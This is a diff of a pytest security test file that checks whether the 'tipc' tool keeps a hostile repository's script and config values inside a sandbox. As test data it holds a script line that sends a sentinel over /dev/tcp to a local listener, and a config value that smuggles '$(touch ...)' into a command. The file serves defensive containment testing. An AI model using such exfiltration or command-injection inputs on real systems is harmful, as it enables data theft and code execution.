@@ -1,17 +1,45 @@
 """Issue 22, item 1: the repo's own bash script (observed to learn what it runs) and its config values run
-inside the sandbox, whichever verb observes it; `tipc lint` and `tipc plan` without --observe run nothing."""
+inside the sandbox, whichever verb observes it; `tipc lint` and `tipc plan` without --observe run nothing.
+
+`tipc run` observes it too (tests/security/test_run_attacks.py), `tipc check` and `tipc review` as well
+(test_check.py, test_review.py). Here one hostile copy per reviewer, with both attacks, goes through
+`run --dry-run` and `plan --observe`."""
 
 from __future__ import annotations
 
-import json
+import subprocess
+from collections.abc import Iterator
+from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 
-from tests.security.conftest import CONFIG, HostileRepo, Listener, Reviewer, contained, ended, hole, json_out
+from tests.security.conftest import (
+    CONFIG,
+    HostileRepo,
+    Listener,
+    Reviewer,
+    _hostile,
+    contained,
+    ended,
+    json_out,
+)
 
 pytestmark = pytest.mark.integration
-OPEN = hole("the repo's script is observed on the host, with the network, before any sandbox exists")
+
+VERBS = {
+    "run --dry-run": ("run", "{repo}", "--dry-run", "--device", "cpu", "--no-color"),
+    "plan --observe": ("plan", "{config}", "--observe", "--device", "cpu", "--format", "json"),
+}
+
+
+@dataclass
+class Observed:
+    repo: HostileRepo
+    done: dict[str, subprocess.CompletedProcess[str]]  # verb -> what tipc did
+    received: bytes
+    script_marker: Path
+    value_marker: Path
 
 
 def _script_attack(repo: HostileRepo, listener: Listener) -> Path:
@@ -19,58 +47,53 @@ def _script_attack(repo: HostileRepo, listener: Listener) -> Path:
     repo.script_line(
         f"touch {marker}; "
         f"(echo leak {repo.sentinel} > /dev/tcp/127.0.0.1/{listener.port}) 2>/dev/null || true"
-    ).seal()
+    )
     return marker
 
 
-def _host_untouched(repo: HostileRepo, listener: Listener, marker: Path) -> None:
-    contained(not marker.exists(), f"a line of the repo's script created {marker} on the host")
-    contained(
-        listener.received() == b"",
-        f"the repo's script reached the host's loopback: {listener.received()[:200]!r}",
-    )
-    contained(repo.unchanged(), f"the repo changed: {repo.changed_files()}")
-
-
-VERBS = {
-    "run --dry-run": ("run", "{repo}", "--dry-run", "--device", "cpu", "--no-color"),
-    "plan --observe": ("plan", "{config}", "--observe", "--device", "cpu", "--format", "json"),
-    "run": ("run", "{repo}", "--device", "cpu", "--only", "train", "--no-color"),
-}
+@pytest.fixture(scope="module")
+def observed(module_reviewer: Reviewer) -> Iterator[Observed]:
+    repo = _hostile(module_reviewer)
+    listener = Listener()
+    try:
+        marker = _script_attack(repo, listener)
+        value_marker = module_reviewer.host / "config_value.txt"
+        repo.config_value("norm_train", f"train.py --data_dir=./lite_data $(touch {value_marker})").seal()
+        done = {}
+        for verb, words in VERBS.items():
+            args = [a.format(repo=repo.repo, config=repo.repo / CONFIG) for a in words]
+            done[verb] = module_reviewer.tipc(*args)
+        yield Observed(repo, done, listener.received(), marker, value_marker)
+    finally:
+        listener.close()
 
 
 @pytest.mark.parametrize("verb", list(VERBS))
-@pytest.mark.parametrize(
-    "reviewer", [pytest.param("root", marks=OPEN), pytest.param("user", marks=OPEN)], indirect=True
-)
-def test_a_line_of_the_repo_script_runs_in_the_sandbox(
-    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener, verb: str
-) -> None:
-    marker = _script_attack(hostile_demo, listener)
-    args = [a.format(repo=hostile_demo.repo, config=hostile_demo.repo / CONFIG) for a in VERBS[verb]]
-    done = reviewer.tipc(*args)
-    ended(done, 0, 1)
-    _host_untouched(hostile_demo, listener, marker)
+def test_a_line_of_the_repo_script_runs_in_the_sandbox(observed: Observed, verb: str) -> None:
+    ended(observed.done[verb], 0, 1)
+    contained(
+        not observed.script_marker.exists(), f"a line of the repo's script created {observed.script_marker}"
+    )
+    contained(
+        observed.received == b"",
+        f"the repo's script reached the host's loopback: {observed.received[:200]!r}",
+    )
+    contained(observed.repo.unchanged(), f"the repo changed: {observed.repo.changed_files()}")
 
 
-@pytest.mark.parametrize("verb", ["run --dry-run", "plan --observe"])
-@pytest.mark.parametrize(
-    "reviewer",
-    [
-        pytest.param("root", marks=hole("config values are shell-evaluated on the host")),
-        pytest.param("user", marks=hole("config values are shell-evaluated on the host")),
-    ],
-    indirect=True,
-)
-def test_a_config_value_is_not_shell_evaluated_on_the_host(
-    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener, verb: str
-) -> None:
-    marker = reviewer.host / "config_value.txt"
-    hostile_demo.config_value("norm_train", f"train.py --data_dir=./lite_data $(touch {marker})").seal()
-    args = [a.format(repo=hostile_demo.repo, config=hostile_demo.repo / CONFIG) for a in VERBS[verb]]
-    done = reviewer.tipc(*args)
-    ended(done, 0, 1, 2)
-    contained(not marker.exists(), f"the config value $(touch ...) created {marker} on the host")
+@pytest.mark.parametrize("verb", list(VERBS))
+def test_a_config_value_is_not_shell_evaluated_on_the_host(observed: Observed, verb: str) -> None:
+    ended(observed.done[verb], 0, 1, 2)
+    contained(
+        not observed.value_marker.exists(), f"the config value $(touch ...) created {observed.value_marker}"
+    )
+
+
+def test_the_observed_plan_is_still_made(observed: Observed) -> None:
+    """Contained is not broken: the script, observed in the sandbox, still gives the commands it runs."""
+    steps = json_out(observed.done["plan --observe"])["steps"]
+    assert any("train.py" in " ".join(s["argv"]) for s in steps), steps
+    assert any("infer.py" in " ".join(s["argv"]) for s in steps), steps
 
 
 @pytest.mark.parametrize("reviewer", ["root", "user"], indirect=True)
@@ -86,42 +109,5 @@ def test_lint_and_plan_without_observe_run_nothing_from_the_repo(
     done = reviewer.tipc("plan", str(hostile_demo.repo / CONFIG), "--device", "cpu", "--format", "json")
     ended(done, 0, 1)
     assert json_out(done)["steps"], "the profile plan has no steps"
-    _host_untouched(hostile_demo, listener, marker)
+    assert not marker.exists() and listener.received() == b"" and hostile_demo.unchanged()
     assert not value_marker.exists() and not (reviewer.host / "train.txt").exists()
-
-
-@pytest.mark.parametrize("reviewer", [pytest.param("root", marks=OPEN)], indirect=True)
-def test_check_observes_the_script_in_the_sandbox(
-    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener
-) -> None:
-    marker = _script_attack(hostile_demo, listener)
-    done = reviewer.tipc("check", str(hostile_demo.repo), "--device", "cpu", "--no-color", "--format", "json")
-    ended(done, 0, 1)
-    json_out(done)
-    _host_untouched(hostile_demo, listener, marker)
-
-
-@pytest.mark.parametrize("reviewer", [pytest.param("root", marks=OPEN)], indirect=True)
-def test_review_observes_the_script_in_the_sandbox(
-    hostile_demo: HostileRepo, reviewer: Reviewer, listener: Listener
-) -> None:
-    marker = _script_attack(hostile_demo, listener)
-    out = reviewer.base / "review"
-    done = reviewer.tipc(
-        "review",
-        str(hostile_demo.repo),
-        "--out",
-        str(out),
-        "--format",
-        "json",
-        "--no-color",
-        "--jobs",
-        "1",
-        "--device",
-        "cpu",
-        "--budget",
-        "30",
-    )
-    ended(done, 0, 1)
-    assert json.loads(done.stdout), done.stderr[-2000:]
-    _host_untouched(hostile_demo, listener, marker)
